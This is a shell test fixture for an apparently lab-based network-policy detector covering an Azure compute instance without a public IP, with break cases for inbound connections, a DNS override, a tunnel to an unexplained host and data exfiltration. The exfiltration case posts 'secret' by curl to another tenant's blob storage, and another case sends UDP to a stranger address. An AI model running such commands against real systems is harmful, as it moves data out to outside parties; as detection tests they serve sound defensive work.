# no-public-ip: an instance that nobody can come in to; it opens the tunnel.
breaks='comes-in instance-address tunnel-to-stranger exfiltration'
usual_packets='(udp port 5831 and host 198.51.100.13) or (tcp port 443 and host 203.0.113.36)'
setup() {
  azure_full
  azure_front batch
  azure_config no-public-ip
  azure_tags
  echo 'egress: { service_tags: /run/lab/ServiceTags_Lab.json }' >>/run/lab/vnetprobe.yaml
}
running() { azure_tunnel 198.51.100.13; }
usual() {
  APP_ROUNDS=1 during client bash -c "echo >/dev/udp/$REGION.tundra.azureml.ms/5831"
  APP_ROUNDS=1 during client curl -s -m 1 --cacert "$LAB_CERTS/ca.pem" "https://lab.$REGION.batch.azure.com/"
}

# What is right for an instance with a public IP address is not here: it has one.
break_comes-in() {
  want 1 inbound-public
  app_packets='tcp port 44224 and host 198.51.100.10'
  break_running() { azure_listener 44224; }
  app() { azure_inbound 198.51.100.10 44224; }
}

# Its name leads to the instance itself, not to the workspace's endpoint.
break_instance-address() {
  want 1 dns-instance-address
  break_it() {
    UNBOUND_SERVER="  local-data: \"ci-one.$REGION.instances.azureml.ms. A 10.20.1.77\""
    DNSMASQ_OPTIONS="address=/ci-one.$REGION.instances.azureml.ms/10.20.1.77"
  }
}

break_tunnel-to-stranger() {
  want 1 egress-unexplained
  app_packets='udp port 5831 and host 203.0.113.99'
  break_running() { azure_tunnel 203.0.113.99; }
  app() { during client bash -c 'echo >/dev/udp/203.0.113.99/5831'; }
}

# Another tenant's account may be one of Batch's: it is told of. (The own one, by
# a service that no target names: test_policy.)
break_exfiltration() {
  want 0 egress-somebodys-storage
  app_packets='tcp port 443 and host 203.0.113.20'
  app() {
    during client curl -s -m 1 --cacert "$LAB_CERTS/ca.pem" -d secret \
      https://otherco.blob.core.windows.net/in
  }
}
